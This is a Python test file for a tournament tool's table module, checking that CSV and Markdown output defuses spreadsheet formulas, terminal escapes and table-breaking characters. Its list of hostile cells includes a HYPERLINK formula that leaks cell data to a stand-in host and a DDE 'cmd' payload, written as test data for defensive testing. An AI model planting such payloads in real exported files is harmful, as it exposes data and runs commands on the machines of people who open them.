"""CSV and Markdown tables: text an agent chose can neither run in a spreadsheet nor break a
table, and numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd  # type: ignore[import-untyped, unused-ignore]
import pytest

from tournament.tables import formula_safe, markdown, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_gets_a_quote(text: str) -> None:
    # (A carriage return is dropped as any control is: the formula after it is quoted.)
    assert formula_safe(text) == "'" + text.replace("\r", "")


def test_a_cell_carries_no_terminal_escape_or_bidirectional_control() -> None:
    """A student id with escapes in it (a Gradescope `:sid:`) reached marks.csv and the
    manifest whole, and a `cat` of either set the organizer's window title (the twelfth
    hostile review). Tabs and newlines stay."""
    sid = "s1\x1b]0;PWNED\x1b\\\x1b[2Jok\u202eXY\tz\nw"
    assert formula_safe(sid) == "s1]0;PWNED\\[2JokXY\tz\nw"


@pytest.mark.parametrize("value", ["getAction raised ValueError: =1", "win", "", "1-2", -3, -2.5,
                                   None, True])
def test_other_values_are_left_alone(value: object) -> None:
    assert formula_safe(value) == value


def test_a_csv_read_back_has_text_quoted_and_numbers_intact(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "entrant": ["alpha"] * len(HOSTILE),
        "message": HOSTILE,
        "score": [-500 - i for i in range(len(HOSTILE))],
        "wall_mean": [-0.5] * len(HOSTILE),
        "culprit": [0.0, None, 0.0, None, 0.0, None, 0.0],
    })
    path = tmp_path / "games.csv"
    write_csv(frame, path)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [row["message"] for row in rows] == ["'" + text.replace("\r", "") for text in HOSTILE]
    assert [row["score"] for row in rows] == [str(-500 - i) for i in range(len(HOSTILE))]
    assert {row["wall_mean"] for row in rows} == {"-0.5"}
    assert [row["culprit"] for row in rows] == ["0.0", "", "0.0", "", "0.0", "", "0.0"]
    assert len(rows) == len(HOSTILE)
    assert frame["message"].tolist() == HOSTILE  # the caller's frame is not changed
    assert [p.name for p in tmp_path.iterdir()] == ["games.csv"]  # no temporary left


def test_markdown_cells_cannot_break_the_table() -> None:
    frame = pd.DataFrame({"entrant": ["a|b", "line\nbreak\r\u2028x", "<img src=x>", "c:\\|"],
                          "score": [1.5, float("nan"), -2.0, 3.25]})
    text = markdown(frame)
    lines = text.splitlines()
    assert lines == [
        "| entrant | score |",
        "|---|---|",
        "| a\\|b | 1.5 |",
        "| line break  x |  |",
        "| &lt;img src=x> | -2 |",
        "| c:\\\\\\| | 3.25 |",
    ]
